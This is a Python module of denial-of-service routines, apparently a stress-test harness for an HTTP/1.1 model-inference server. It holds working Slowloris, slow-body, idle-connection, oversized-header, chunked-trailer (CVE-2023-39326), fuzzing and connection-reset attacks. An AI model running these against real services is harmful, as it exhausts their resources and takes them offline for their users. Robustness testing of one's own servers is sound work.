"""HTTP/1 and the bytes before it: slowness, framing, heads."""

import random
import time

from peer import Raw, more_descriptors
from registry import attack

INFER = b'POST /v2/models/identity/infer HTTP/1.1\r\nHost: a\r\n'


def drop_by_drop(target, count, start, drop, every=1.0):
    """So many connections that have sent `start` and then send a byte or so of `drop` at each turn."""
    more_descriptors()
    peers, begun = [], 0
    while not target.over():
        peers = [p for p in peers if p.alive]
        while len(peers) < count and not target.over():
            peers.append(Raw(target, wait=2).send(start))
            begun += 1
        for peer in peers:
            peer.offer(drop)
        time.sleep(every)
    return f'{begun} begun, {len(peers)} at the end'


@attack(seconds=30, quick=4)
def slow_heads(target):
    """Slowloris: 4,000 heads that go on by a byte a second."""
    return drop_by_drop(target, target.size(4000, 1000), b'GET /livez HTTP/1.1\r\nHost: a\r\nX: ', b'a')


@attack(seconds=30, quick=4)
def slow_bodies(target):
    """2,000 bodies of 60 KB that go on by a byte a second."""
    return drop_by_drop(target, target.size(2000, 500), INFER + b'Content-Length: 60000\r\n\r\n{', b' ')


@attack(seconds=30, quick=4)
def silence(target):
    """3,000 connections that say nothing, half a TLS record, or half of HTTP/2's preface."""
    more_descriptors()
    starts = (b'', b'\x16\x03\x01', b'PRI * HTTP/2.0\r\n', b'\r', b'G')
    peers = [Raw(target, wait=5).send(starts[i % len(starts)]) for i in range(target.size(3000, 800))]
    while not target.over():
        time.sleep(0.2)
    return f'{len(peers)} connections'


@attack(quick=2.5)
def small_chunks(target):
    """CVE-2023-39326: a body of chunks of one byte, with long extensions, and 100,000 trailers."""
    bodies = [b'1\r\nz\r\n' * 500_000, b'1;' + b'x' * 200 + b'\r\nz\r\n', b'0\r\n' + b'X-T: y\r\n' * 100_000 + b'\r\n']
    bodies[1] *= 20_000
    sent = 0
    while not target.over():
        for body in bodies:
            with Raw(target, wait=5) as raw:
                raw.send(INFER + b'Transfer-Encoding: chunked\r\n\r\n').send(body)
                raw.half_close().read()
                sent += 1
    return f'{sent} bodies'


@attack(quick=2.5)
def large_heads(target):
    """Heads of a megabyte: one line, 10,000 fields, a long path, byte by byte."""
    heads = [b'GET /' + b'a' * 1_000_000, b'GET / HTTP/1.1\r\nHost: a\r\n' + b'X: y\r\n' * 100_000, b'GET / HTTP/1.1\r\nX: ' + b'y' * 1_000_000,
             b'\r\n' * 500_000]
    sent = 0
    while not target.over():
        for head in heads:
            with Raw(target, wait=5) as raw:
                raw.send(head)
                raw.half_close().read()
                sent += 1
    return f'{sent} heads'


@attack(quick=2.5)
def garbage(target):
    """Random bytes, and requests of which a few bytes were changed."""
    chance, sent = random.Random(5), 0
    seed = INFER + b'Content-Length: 67\r\nContent-Type: application/json\r\n\r\n' + \
        b'{"inputs":[{"name":"x","datatype":"INT32","shape":[1],"data":[7]}]}' + b'GET /livez HTTP/1.1\r\nHost: a\r\n\r\n'
    while not target.over():
        octets = bytearray(seed)
        for _ in range(chance.randrange(1, 6)):
            at = chance.randrange(len(octets))
            octets[at:at + chance.randrange(3)] = chance.randbytes(chance.randrange(3))
        if chance.random() < 0.1:
            octets = chance.randbytes(chance.randrange(2000))
        with Raw(target, wait=2) as raw:
            raw.send(bytes(octets)).half_close()
            while raw.read():
                pass
        sent += 1
    return f'{sent} requests'


@attack(quick=2.5)
def connect_and_reset(target):
    """Connections that are reset in the middle of a request or of its answer."""
    import socket
    import struct
    chance, sent = random.Random(3), 0
    request = INFER + b'Content-Length: 67\r\n\r\n{"inputs":[{"name":"x","datatype":"INT32","shape":[1],"data":[7]}]}'
    while not target.over():
        with Raw(target, wait=2) as raw:
            raw.send(request[:chance.randrange(len(request) + 1)])
            raw.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        sent += 1
    return f'{sent} connections'
